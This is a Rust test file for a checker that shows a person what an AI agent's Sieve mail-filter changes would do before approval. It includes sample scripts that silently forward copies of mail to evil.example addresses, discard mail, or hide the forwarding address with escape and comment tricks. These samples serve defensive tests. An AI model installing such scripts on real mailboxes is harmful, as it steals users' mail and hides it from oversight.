#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]
//! Transcripts: what an agent says, and what the person would be shown.

use proptest::prelude::*;

use super::command::{Command, command_line, parse};
use super::{Change, Stored, change_of, effects, only_reads, reading};
use crate::classify::imap::token::Piece;
use crate::operation::Class;

fn said(text: &str) -> Result<Command, super::Refused> {
    parse(&[Piece::Text(text.as_bytes().to_vec())])
}

fn stored(scripts: &[(&str, &str)], active: Option<&str>) -> Stored {
    Stored {
        scripts: scripts.iter().map(|(name, text)| ((*name).to_owned(), text.as_bytes().to_vec())).collect(),
        active: active.map(str::to_owned),
        names: scripts.iter().map(|(name, _)| (*name).to_owned()).collect(),
    }
}

fn facts(change: &Change, stored: &Stored) -> Vec<String> {
    change.part(stored).operation.facts.iter().map(|fact| format!("{}: {}", fact.label, fact.value)).collect()
}

const OLD: &str = "require \"fileinto\";\nif header :contains \"subject\" \"sale\" {\n  fileinto \"Sales\";\n}\n";

#[test]
fn commands_are_understood_or_go_nowhere() {
    let put = parse(&[
        Piece::Text(b"putscript \"main\" ".to_vec()),
        Piece::Literal(b"keep;\r\n".to_vec()),
        Piece::Text(Vec::new()),
    ]);
    assert_eq!(put, Ok(Command::Change(Change::Put { name: "main".to_owned(), script: b"keep;\r\n".to_vec() })));
    assert_eq!(said("SetActive \"\""), Ok(Command::Change(Change::Activate { name: None })));
    assert_eq!(said("GETSCRIPT \"Grüße\""), Ok(Command::Get { name: "Grüße".to_owned() }));
    assert_eq!(said("HAVESPACE \"a\" 99"), Ok(Command::HaveSpace { name: "a".to_owned(), size: 99 }));
    for bad in [
        "",
        "PUTSCRIPT \"a\"",
        "PUTSCRIPT a \"keep;\"",
        "SETACTIVE main",
        "GETSCRIPT \"a\u{1}\"",
        "DELETESCRIPT \"\"",
        "RENAMESCRIPT \"a\" \"b\" \"c\"",
        "UNAUTHENTICATE",
        "STARTTLS",
        "X-OTHER \"a\"",
        "LISTSCRIPTS \"a\"",
    ] {
        assert!(said(bad).is_err(), "{bad}");
    }
    let large = Piece::Literal(vec![b'#'; super::MAX_SCRIPT + 1]);
    let refused = parse(&[Piece::Text(b"PUTSCRIPT \"a\" ".to_vec()), large]).unwrap_err();
    assert!(refused.to_string().starts_with("(QUOTA/MAXSIZE)"), "{refused}");
}

#[test]
fn the_person_sees_what_a_script_would_do_and_which_lines_are_new() {
    let script = format!("{OLD}redirect :copy \"x@evil.example\";\ndiscard;\n").into_bytes();
    let change = Change::Put { name: "main".to_owned(), script };
    let part = change.part(&stored(&[("main", OLD)], Some("main")));
    assert_eq!((part.operation.class, part.operation.action.as_str()), (Class::Divert, "sieve.put"));
    let audience = part.operation.audience.unwrap();
    assert_eq!(
        (audience.members[0].address.as_str(), audience.members[0].role.as_str()),
        ("x@evil.example", "forward")
    );
    insta::assert_snapshot!(facts(&change, &stored(&[("main", OLD)], Some("main"))).join("\n"), @r#"
    Script: main (it runs on all new mail)
    Look out: Sends mail on to x@evil.example (and keeps it)
    Throws mail away
    What it does: Files mail into Sales, as before
    New lines: redirect :copy "x@evil.example";
    discard;
    "#);
}

#[test]
fn turning_a_script_on_or_off_shows_the_difference_of_what_runs() {
    let both = stored(&[("main", OLD), ("new", "redirect \"me@other.example\";")], Some("main"));
    insta::assert_snapshot!(facts(&Change::Activate { name: Some("new".to_owned()) }, &both).join("\n"), @r#"
    Runs from now on: new
    Ran until now: main
    Look out: Sends mail on to me@other.example
    What it does no more: Files mail into Sales
    New lines: redirect "me@other.example";
    Lines taken away: require "fileinto";
    if header :contains "subject" "sale" {
      fileinto "Sales";
    }
    "#);
    let off = facts(&Change::Activate { name: None }, &both);
    assert_eq!(
        off[..3],
        ["Runs from now on: no script", "Ran until now: main", "What it does no more: Files mail into Sales"]
    );
    let deleted = facts(&Change::Delete { name: "main".to_owned() }, &both);
    assert!(deleted.iter().any(|fact| fact.starts_with("Lines taken away")), "{deleted:?}");
}

#[test]
fn every_spelling_of_an_action_is_found() {
    let all = effects(
        b"# redirect \"no@example.org\";\n/* discard; */ ReDirect\n :copy \"a\\\"b@x\"; vacation text:\r\nredirect \"quoted@x\";\r\n..\r\n.\r\n;\
          if true { reject \"no\"; } elsif false { notify \"mailto:z\"; }\nexecute :pipe \"prog\"; fileinto :flags \"\\\\Deleted\" \"Trash\";\n\
          setflag [\"\\\\Seen\", \"x\"]; include :personal \"other\"; frobnicate \"x\"; redirect \"${to}\"",
    );
    assert_eq!(all.redirects.iter().map(String::as_str).collect::<Vec<_>>(), ["${to}", "a\"b@x"]);
    assert!(!all.discards && all.answers && all.rejects && all.notifies && all.runs_programs && all.moves_away);
    assert_eq!(all.files_into.first().map(String::as_str), Some("Trash"));
    assert_eq!(all.flags.iter().map(String::as_str).collect::<Vec<_>>(), ["\\Deleted", "\\Seen", "x"]);
    assert_eq!(all.includes.first().map(|include| include.name.as_str()), Some("other"));
    assert_eq!(all.others.first().map(String::as_str), Some("frobnicate"));
    assert_eq!(effects(b"keep; stop;"), super::Effects::default());
}

#[test]
fn a_change_is_the_call_that_leaves_and_back() {
    let changes = [
        Change::Put { name: "a/b ü".to_owned(), script: b"keep;".to_vec() },
        Change::Activate { name: Some("x".to_owned()) },
        Change::Activate { name: None },
        Change::Delete { name: "x".to_owned() },
        Change::Rename { name: "x".to_owned(), to: "y".to_owned() },
    ];
    for change in changes {
        let call = change.call();
        assert!(!only_reads(&call));
        assert_eq!(change_of(&call), Some(change));
    }
    let read = reading("GETSCRIPT", "a", Vec::new(), bytes::Bytes::new()).unwrap();
    assert!(only_reads(&read) && change_of(&read).is_none());
    assert!(reading("PUTSCRIPT", "a", Vec::new(), bytes::Bytes::new()).is_none());
}

#[test]
fn the_answer_is_about_the_stored_script_too() {
    let change = Change::Put { name: "main".to_owned(), script: b"keep;".to_vec() };
    let of = |text: &str, active| change.part(&stored(&[("main", text)], active)).operation.content;
    assert_ne!(of("a", None), of("b", None));
    assert_ne!(of("a", None), of("a", Some("main")));
    assert_eq!(of("a", None), of("a", None));
}

#[test]
fn what_is_included_belongs_to_the_question() {
    let scripts = [
        ("main", "include :personal \"Outer\";"),
        ("outer", "if true { include \"inner\"; }"),
        ("inner", "include \"main\"; include \"gone\"; keep;"),
        ("new", "include \"apart\";"),
        ("apart", "stop;"),
        ("alone", "discard;"),
    ];
    let all = stored(&scripts, Some("main"));
    // Asked as often as the engine does.
    let read = |change: &Change| {
        let mut known = Stored { scripts: std::collections::BTreeMap::new(), ..all.clone() };
        loop {
            let unread = change.unread(&known);
            if unread.is_empty() {
                return known;
            }
            known.scripts.extend(unread.into_iter().map(|name| (name.clone(), all.scripts[&name].clone())));
        }
    };
    let names = |change: &Change| read(change).scripts.into_keys().collect::<Vec<_>>();
    let on = Change::Activate { name: Some("new".to_owned()) };
    assert_eq!(names(&on), ["apart", "inner", "main", "new", "outer"]);
    let put = |script: &str| Change::Put { name: "alone".to_owned(), script: script.as_bytes().to_vec() };
    assert_eq!(names(&put("keep;")), ["alone", "inner", "main", "outer"]);
    assert_eq!(names(&put("include \"apart\";")), ["alone", "apart", "inner", "main", "outer"]);
    assert_eq!(names(&put("include \"${x}\";")).len(), 6, "it may be any of them");
    // Another text of any of them is another question; of others it is none.
    let known = read(&on);
    for name in ["apart", "inner", "main", "new", "outer"] {
        let mut other = known.clone();
        other.scripts.insert(name.to_owned(), b"discard;".to_vec());
        assert_ne!(on.part(&other).operation.content, on.part(&known).operation.content, "{name}");
    }
    let inner = Change::Delete { name: "inner".to_owned() };
    assert!(facts(&inner, &read(&inner))[0].contains("the script that runs includes it"), "by way of another");
}

#[test]
fn what_included_scripts_do_is_shown_under_their_names() {
    let outer = "include :personal \"Inner\";\ninclude :global \"company\";\ninclude :once :optional \"maybe\";\ninclude \"gone\";\nfileinto \"A\";\n";
    let all = stored(
        &[
            ("main", OLD),
            ("outer", outer),
            ("inner", "redirect \"x@evil.example\"; include \"deep\"; include \"outer\";"),
            ("deep", "discard; fileinto \"Sales\"; include :global \"deeper\";"),
            ("apart", "vacation \"away\";"),
        ],
        Some("main"),
    );
    let on = Change::Activate { name: Some("outer".to_owned()) };
    insta::assert_snapshot!(facts(&on, &all)[..4].join("\n"), @r#"
    Runs from now on: outer
    Ran until now: main
    Look out: Runs other scripts, too: "deep", "inner"
    In the included "deep": throws mail away
    In the included "inner": sends mail on to x@evil.example
    Runs "company" of your server, which can't be read here: what it does is not known
    Runs "deeper" of your server, which can't be read here: what it does is not known
    Runs "gone", which is not there now
    Runs "maybe" as soon as there is one: there is none now
    What it does: Files mail into A
    In the included "deep": files mail into Sales
    "#);
    let audience = on.part(&all).operation.audience.unwrap();
    assert_eq!(audience.members[0].address, "x@evil.example");
    // Of the script that is stored it is the text that will be there.
    let put = Change::Put { name: "deep".to_owned(), script: b"include \"inner\"; keep;".to_vec() };
    insta::assert_snapshot!(facts(&put, &all).join("\n"), @r#"
    Script: deep (it does not run now)
    Look out: Runs other scripts, too: "inner", "outer"
    In the included "inner": sends mail on to x@evil.example
    Runs "company" of your server, which can't be read here: what it does is not known
    Runs "gone", which is not there now
    Runs "maybe" as soon as there is one: there is none now
    What it does: In the included "outer": files mail into A
    What it does no more: Throws mail away
    Runs "deeper" of your server, which can't be read here: what it does is not known
    Files mail into Sales
    New lines: include "inner"; keep;
    Lines taken away: discard; fileinto "Sales"; include :global "deeper";
    "#);
    // A name that is made up as it runs may be any.
    let put = Change::Put { name: "any".to_owned(), script: b"include \"${x}\";".to_vec() };
    let any = facts(&put, &all).join("\n");
    assert!(any.contains("It may be any of yours") && any.contains("In the included \"apart\": answers mail"), "{any}");
    // Nothing that a script says begins a line of ours.
    let put = Change::Put {
        name: "x".to_owned(),
        script: b"include \"y\nThrows nothing away\"; redirect \"a@b\nX\";".to_vec(),
    };
    let lines = facts(&put, &all);
    assert!(lines[1].ends_with("Runs \"y\\nThrows nothing away\", which is not there now"), "{lines:?}");
    assert!(lines[1].contains("Sends mail on to a@b\\nX\n"), "{lines:?}");
}

#[test]
fn attack_no_spelling_hides_whom_mail_goes_to() {
    let members = |script: &str| {
        let change = Change::Put { name: "main".to_owned(), script: script.as_bytes().to_vec() };
        let audience = change.part(&Stored::default()).operation.audience.expect("somebody");
        audience.members.into_iter().map(|one| one.address).collect::<Vec<_>>()
    };
    let encoded =
        "require [\"encoded-character\", \"copy\"];\nredirect :copy \"x${hex:40}e${hex:7 69}l${unicode: 2e}example\";";
    assert_eq!(members(encoded), ["x@e\u{7}il.example"]);
    assert_eq!(members("redirect \"${hex:61}@evil.example\";"), ["${hex:61}@evil.example"], "nobody decodes it");
    let wrong = "require \"encoded-character\"; redirect \"${hex:+a}${x ${hex:400}${unicode:d800}@${hex:78}\";";
    assert_eq!(members(wrong), ["${hex:+a}${x ${hex:400}${unicode:d800}@x"]);
    let require = "require [\"encoded-character\", \"enotify\"];\n";
    assert_eq!(members(&format!("{require}notify \"${{hex:6d 61}}ilto:a%40evil.example\";")), ["a@evil.example"]);
    let several = "notify \"mailto:me@own.example,b@x?subject=hi&CC=c@y%2Cd%40z&b%63c=e@w\";";
    assert_eq!(members(several), ["b@x", "c@y", "d@z", "e@w", "me@own.example"]);
    assert_eq!(members("set \"m\" \"mailto:e@x\"; notify :message \"m\" \"${m}\";"), ["${m}"]);
    assert_eq!(members("notify :method \"mailto\" :options [\"a@x\", \"b@y\"] :message \"m\";"), ["a@x", "b@y"]);
    assert_eq!(members("report \"abuse\" \"look\" \"a@x\";"), ["a@x"]);
    assert_eq!(members("redirect :list \"tag:x,2026:all\";"), ["tag:x,2026:all"]);
    // What no server takes is shown all the same.
    assert_eq!(members("\"x\" redirect \"a@x\";"), ["a@x"]);
    assert_eq!(members("keep redirect \"a@x\";"), ["a@x"]);
    let alone = Change::Put { name: "a".to_owned(), script: b"# x\rredirect \"a@x\";".to_vec() };
    assert!(alone.part(&Stored::default()).operation.opaque, "a comment's end is in doubt");
    for (script, does) in [
        ("addheader \"X\" \"y\";", "Changes mail itself"),
        ("foreverypart { replace \"gone\"; }", "Changes mail itself"),
        ("redirect \"${to}\";", "Sends mail on to an address that it makes up as it runs: ${to}"),
        ("fileinto :mailboxid \"F1\" \"INBOX\";", "Files mail into F1, INBOX"),
    ] {
        let words = [effects(script.as_bytes()).grave(), effects(script.as_bytes()).filing()].concat().join("\n");
        assert!(words.contains(does), "{script}: {words}");
    }
    assert_eq!(effects(b"foreverypart { extracttext :first 9 \"x\"; break; }"), super::Effects::default());
}

proptest! {
    #[test]
    fn no_script_makes_the_scanner_fail(text in "\\PC{0,200}") {
        let _ = effects(text.as_bytes()).grave();
    }

    #[test]
    fn what_is_written_is_understood_the_same(name in "[ -~ü]{1,20}", script in "[ -~\r\n\"\\\\ä]{0,60}") {
        let line = command_line("PUTSCRIPT", &[name.as_bytes(), script.as_bytes()], None);
        // As the wire would: a literal ends its line.
        let mut pieces = Vec::new();
        let mut rest = line.as_slice();
        while let Some(end) = rest.windows(2).position(|pair| pair == b"\r\n") {
            let Some(found) = crate::classify::imap::token::announced(&rest[..end]) else { break };
            let size = usize::try_from(found.size).unwrap();
            pieces.push(Piece::Text(rest[..found.at].to_vec()));
            pieces.push(Piece::Literal(rest[end + 2..end + 2 + size].to_vec()));
            rest = &rest[end + 2 + size..];
        }
        pieces.push(Piece::Text(rest.to_vec()));
        prop_assert_eq!(parse(&pieces), Ok(Command::Change(Change::Put { name, script: script.into_bytes() })));
    }
}

#[test]
fn what_a_server_takes_for_the_same_name_is_refused() {
    let stored = Stored { names: vec!["main".to_owned(), "B\u{fc}ro".to_owned()], ..Stored::default() };
    for alike in ["Main", "MAIN", "b\u{fc}ro", "Bu\u{308}ro"] {
        let put = Change::Put { name: alike.to_owned(), script: b"keep;".to_vec() };
        assert!(put.impossible(&stored).is_some(), "{alike}");
    }
    for other in ["main", "maine", "Buro"] {
        let put = Change::Put { name: other.to_owned(), script: b"keep;".to_vec() };
        assert!(put.impossible(&stored).is_none(), "{other}");
    }
}

#[test]
fn nothing_is_hidden_from_who_decides() {
    let put = |script: &str| {
        let change = Change::Put { name: "main".to_owned(), script: script.as_bytes().to_vec() };
        change.part(&Stored::default())
    };
    let many = "# nothing\n".repeat(1001);
    assert!(put(&many).operation.opaque, "what is not shown whole can only be denied");
    // A dot and a space end no text.
    let text = "set \"x\" text:\n. \n/*\n.\n;\nredirect \"evil@x.example\"; discard;\n# */\n";
    let members = put(text).operation.audience.unwrap().members;
    assert_eq!(members.iter().map(|one| one.address.as_str()).collect::<Vec<_>>(), ["evil@x.example"]);
    let notify = put("notify :message \"x\" \"mailto:evil@x.example?subject=y\";").operation.audience.unwrap();
    assert_eq!((notify.members[0].role.as_str(), notify.members[0].address.as_str()), ("notify", "evil@x.example"));
    assert!(effects(b"if not filter \"prog\" { keep; }").runs_programs);
    assert!(effects(b"keep :flags \"\\\\Deleted\";").flags.contains("\\Deleted"));
    assert!(effects(b"fileinto :specialuse \"\\\\Trash\" \"INBOX\";").files_into.contains("\\Trash"));
}

#[test]
fn long_scripts_are_compared_in_no_time() {
    let line = |n: usize, word: &str| format!("# {word} {n}\n");
    let before: String = (0..60_000).map(|n| line(n, "a")).collect();
    let after: String = (0..60_000).map(|n| line(n, "b")).collect();
    let stored =
        Stored { scripts: [("main".to_owned(), before.into_bytes())].into(), active: None, ..Stored::default() };
    let change = Change::Put { name: "main".to_owned(), script: after.into_bytes() };
    assert!(change.part(&stored).operation.opaque);
}
